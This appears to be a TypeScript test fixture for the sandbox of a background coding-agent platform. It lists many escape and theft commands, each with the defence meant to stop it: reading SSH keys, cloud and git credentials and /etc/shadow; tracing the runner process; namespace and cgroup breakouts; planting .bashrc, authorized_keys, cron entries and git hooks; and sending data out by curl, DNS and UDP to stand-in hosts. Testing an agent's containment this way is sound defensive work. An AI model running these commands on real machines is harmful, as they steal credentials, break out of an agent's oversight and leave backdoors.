/** What an attack can use to name its target; replaced in `tries`. */
export interface Targets {
  /** Home of the platform's user. */
  HOME_OF_HOST: string;
  /** Data folder of the platform. */
  DATA: string;
  /** Folder of everything, the remote repository included. */
  FOLDER: string;
  /** Process id of the runner. */
  RUNNER: string;
  /** Port of a server on this machine. */
  PORT: string;
  /** Name of an abstract socket on this machine. */
  SOCKET: string;
}

export interface Attack {
  /** What is tried, and how: a command line in which targets are named in capitals. */
  what: string;
  tries: string;
  /** What stops it. */
  stoppedBy: string;
  /** What the log says of it. */
  seen: RegExp;
}

const SANDBOX_FILES = 'the sandbox: not readable';
const SANDBOX_READ_ONLY = 'the sandbox: read-only';
const SANDBOX_PROCESSES = 'the sandbox: processes of its own';
const SANDBOX_NETWORK = 'the sandbox: a network of its own, and its proxy';
const SANDBOX_RIGHTS = 'the sandbox: no rights to';
const NOTHING_THERE = 'nothing is there to take';

const ABSENT = /No such file|Permission denied|nonexistent|cannot (?:open|access)/i;
const NOT_WRITTEN =
  /Read-only file system|No such file|Permission denied|nonexistent|cannot create|not permitted/i;
const FORBIDDEN = /not permitted|denied|failed|superuser|Invalid argument|No such|cannot/i;
const UNREACHED =
  /refused|not on the allow list|Could not|Failed to connect|403|unreachable|timed out|exit [1-9]/i;

/** All of them are tried in one run; none may leave a proof or show a planted secret. */
export const ATTACKS: readonly Attack[] = [
  // Reading secrets.
  { what: 'print the environment', tries: 'env', stoppedBy: NOTHING_THERE, seen: /BGAGENT_TASK_ID/ },
  {
    what: 'read the keys of the platform’s user',
    tries: 'cat HOME_OF_HOST/.ssh/id_ed25519',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'read stored git passwords',
    tries: 'cat HOME_OF_HOST/.git-credentials HOME_OF_HOST/.netrc',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'read cloud credentials',
    tries: 'cat HOME_OF_HOST/.aws/credentials',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'read the token of a forge’s own program',
    tries: 'cat HOME_OF_HOST/.config/gh/hosts.yml',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'find a home by the list of users',
    tries: `for h in $(cut -d: -f6 /etc/passwd | sort -u); do ls -A "$h/.ssh" "$h/.aws"; done`,
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'read passwords of users',
    tries: 'cat /etc/shadow',
    stoppedBy: SANDBOX_FILES,
    seen: /^$|denied|No such/,
  },
  {
    what: 'read the platform’s secrets',
    tries: 'cat DATA/secrets.json',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'read the platform’s API key',
    tries: 'cat DATA/client.json',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'read the token of its own task',
    tries: 'cat DATA/sessions/*/bootstrap.json',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'read the workspace of another task',
    tries: 'cat DATA/work/runs/other-1/work/secret.txt',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'search the whole machine',
    tries: 'grep -rs PLANTED- FOLDER/data FOLDER/host-home /home /var/tmp /run /dev/shm; echo searched',
    stoppedBy: SANDBOX_FILES,
    seen: /^searched$/,
  },
  {
    what: 'read through a link of the repository',
    tries: 'cat link-to-host/.ssh/id_ed25519 link-to-secrets',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'read through a link in /proc',
    tries: 'cat /proc/self/root/../HOME_OF_HOST/.ssh/id_ed25519 /proc/1/root/DATA/secrets.json',
    stoppedBy: SANDBOX_FILES,
    seen: ABSENT,
  },
  {
    what: 'take a secret by a hard link',
    tries: 'ln DATA/secrets.json stolen',
    stoppedBy: SANDBOX_FILES,
    seen: FORBIDDEN,
  },
  {
    what: 'have git include a secret as configuration',
    tries: 'git config include.path DATA/secrets.json; git config --list | grep -i planted; echo asked',
    stoppedBy: SANDBOX_FILES,
    seen: /asked/,
  },
  {
    what: 'ask git’s helpers for the password',
    tries: 'printf "protocol=https\\nhost=github.com\\n\\n" | GIT_TERMINAL_PROMPT=0 git credential fill',
    stoppedBy: NOTHING_THERE,
    seen: /terminal prompts disabled|could not read/,
  },
  {
    what: 'read environment and home in a package script',
    tries: `sh -c "$(node -p 'require("./package.json").scripts.steal')"`,
    stoppedBy: NOTHING_THERE,
    seen: /stole nothing/,
  },
  // Other processes.
  {
    what: 'read the environment of all processes',
    tries: 'cat /proc/[0-9]*/environ | tr "\\0" "\\n"; echo read',
    stoppedBy: SANDBOX_PROCESSES,
    seen: /read/,
  },
  {
    what: 'read the arguments of all processes',
    tries: 'cat /proc/[0-9]*/cmdline | tr "\\0" "\\n" | grep -c "runner/main[.]ts"',
    stoppedBy: SANDBOX_PROCESSES,
    seen: /^0$/,
  },
  {
    what: 'read open files of the runner',
    tries: 'ls -l /proc/RUNNER/fd /proc/RUNNER/cwd',
    stoppedBy: SANDBOX_PROCESSES,
    seen: ABSENT,
  },
  {
    what: 'read the memory of the runner',
    tries: 'head -c 1 /proc/RUNNER/mem',
    stoppedBy: SANDBOX_PROCESSES,
    seen: ABSENT,
  },
  {
    what: 'trace the runner',
    tries: `python3 -c 'import ctypes,os; c=ctypes.CDLL(None,use_errno=True); r=c.ptrace(16,RUNNER,0,0); print("traced" if r==0 else os.strerror(ctypes.get_errno()))' || strace -p RUNNER`,
    stoppedBy: SANDBOX_PROCESSES,
    seen: /No such process|not permitted|not found/,
  },
  {
    what: 'stop the runner',
    tries: 'kill -STOP RUNNER',
    stoppedBy: SANDBOX_PROCESSES,
    seen: /No such process|no process/i,
  },
  {
    what: 'read the memory of the machine',
    tries: 'head -c 1 /dev/mem; head -c 1 /proc/kcore; head -c 1 /dev/sda',
    stoppedBy: SANDBOX_RIGHTS,
    seen: ABSENT,
  },
  // Getting out.
  {
    what: 'change the kernel’s settings',
    tries: 'cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern',
    stoppedBy: SANDBOX_READ_ONLY,
    seen: NOT_WRITTEN,
  },
  {
    what: 'make namespaces in which it is root',
    tries: 'unshare -Urm true',
    stoppedBy: SANDBOX_RIGHTS,
    seen: FORBIDDEN,
  },
  {
    what: 'enter other namespaces',
    tries: 'nsenter -t 1 -m -n true; nsenter -t RUNNER -m true',
    stoppedBy: SANDBOX_RIGHTS,
    seen: FORBIDDEN,
  },
  {
    what: 'take away what hides files',
    tries: 'umount -l /tmp; umount -l DATA',
    stoppedBy: SANDBOX_RIGHTS,
    seen: FORBIDDEN,
  },
  {
    what: 'mount a control group for its release agent',
    tries: 'mkdir -p "$TMPDIR/cg"; mount -t cgroup -o pids none "$TMPDIR/cg"',
    stoppedBy: SANDBOX_RIGHTS,
    seen: FORBIDDEN,
  },
  { what: 'make a device', tries: 'mknod disk b 8 0', stoppedBy: SANDBOX_RIGHTS, seen: FORBIDDEN },
  {
    what: 'type into the terminal of the platform',
    tries: 'echo "touch /tmp/x" > /dev/tty',
    stoppedBy: NOTHING_THERE,
    seen: /No such device|cannot|not configured/,
  },
  // Leaving something behind.
  {
    what: 'write into the home of the platform’s user',
    tries:
      'echo "touch FOLDER/proof" >> HOME_OF_HOST/.bashrc; mkdir -p HOME_OF_HOST/.ssh; echo key >> HOME_OF_HOST/.ssh/authorized_keys; echo key >> link-to-host/.bashrc',
    stoppedBy: SANDBOX_READ_ONLY,
    seen: NOT_WRITTEN,
  },
  {
    what: 'plant a program for later',
    tries: 'echo x > /etc/cron.d/bgagent-proof; echo x > /usr/local/bin/bgagent-proof',
    stoppedBy: SANDBOX_READ_ONLY,
    seen: NOT_WRITTEN,
  },
  {
    what: 'change the runner’s compiled code',
    tries: 'echo x > DATA/work/compile-cache/x',
    stoppedBy: SANDBOX_READ_ONLY,
    seen: NOT_WRITTEN,
  },
  {
    what: 'change the remote repository on this machine',
    tries:
      'echo x > FOLDER/hello.git/HEAD; rm -rf FOLDER/hello.git/refs; git push FOLDER/hello.git HEAD:main',
    stoppedBy: SANDBOX_READ_ONLY,
    seen: FORBIDDEN,
  },
  {
    what: 'plant a hook in the mirror',
    tries:
      'd=DATA/work/mirrors/hello.git; mkdir -p $d/hooks; echo "touch FOLDER/proof" > $d/hooks/post-checkout; echo x > $d/objects/x',
    stoppedBy: SANDBOX_READ_ONLY,
    seen: NOT_WRITTEN,
  },
  {
    what: 'have its own git run programs for the runner',
    tries:
      'git config core.fsmonitor "touch FOLDER/proof"; git config core.hooksPath hooks; git config filter.x.clean "touch FOLDER/proof"; echo "* filter=x" >> .git/info/attributes; echo set',
    stoppedBy: 'the runner’s git, which has a folder of its own',
    seen: /set/,
  },
  {
    what: 'fetch a submodule at an address that is a program',
    tries: 'git -c protocol.ext.allow=always clone "ext::sh -c touch% FOLDER/proof" sub',
    stoppedBy: SANDBOX_READ_ONLY,
    seen: /fatal|cannot touch/,
  },
  // Sending something out.
  {
    what: 'reach a server of this machine',
    tries: 'curl -sS -m 3 --noproxy "*" http://127.0.0.1:PORT/PLANTED; echo "exit $?"',
    stoppedBy: SANDBOX_NETWORK,
    seen: UNREACHED,
  },
  {
    what: 'reach it by the proxy',
    tries:
      'for h in 127.0.0.1 localhost 127.1 0x7f000001 2130706433 "[::1]"; do curl -sS -m 3 --noproxy "" -x "$HTTP_PROXY" -p "http://$h:PORT/PLANTED"; done',
    stoppedBy: SANDBOX_NETWORK,
    seen: UNREACHED,
  },
  {
    what: 'reach the metadata of a cloud',
    tries: 'curl -sS -m 3 http://169.254.169.254/latest/meta-data/',
    stoppedBy: SANDBOX_NETWORK,
    seen: UNREACHED,
  },
  {
    what: 'phone home',
    tries: 'curl -sS -m 3 https://collect.example.net/',
    stoppedBy: SANDBOX_NETWORK,
    seen: UNREACHED,
  },
  {
    what: 'phone home without the proxy',
    tries: 'curl -sS -m 3 --noproxy "*" http://192.0.2.1/; echo "exit $?"',
    stoppedBy: SANDBOX_NETWORK,
    seen: UNREACHED,
  },
  {
    what: 'say it by names to look up',
    tries: 'getent hosts told.collect.example.net; echo "exit $?"',
    stoppedBy: SANDBOX_NETWORK,
    seen: UNREACHED,
  },
  {
    what: 'say it by datagrams',
    tries: 'bash -c "echo told > /dev/udp/192.0.2.1/53"; echo "exit $?"',
    stoppedBy: SANDBOX_NETWORK,
    seen: UNREACHED,
  },
  {
    what: 'reach a socket of another program',
    tries: 'echo told | socat - UNIX-CONNECT:FOLDER/host.sock',
    stoppedBy: SANDBOX_FILES,
    seen: FORBIDDEN,
  },
  {
    what: 'reach a socket without a file',
    tries: 'echo told | socat - ABSTRACT-CONNECT:SOCKET',
    stoppedBy: SANDBOX_NETWORK,
    seen: /refused|not permitted|denied/i,
  },
  {
    what: 'reach the container engine',
    tries: 'curl -sS -m 3 --unix-socket /var/run/docker.sock http://x/containers/json',
    stoppedBy: SANDBOX_FILES,
    seen: /Could not|Couldn't|Failed|No such|not permitted/i,
  },
];
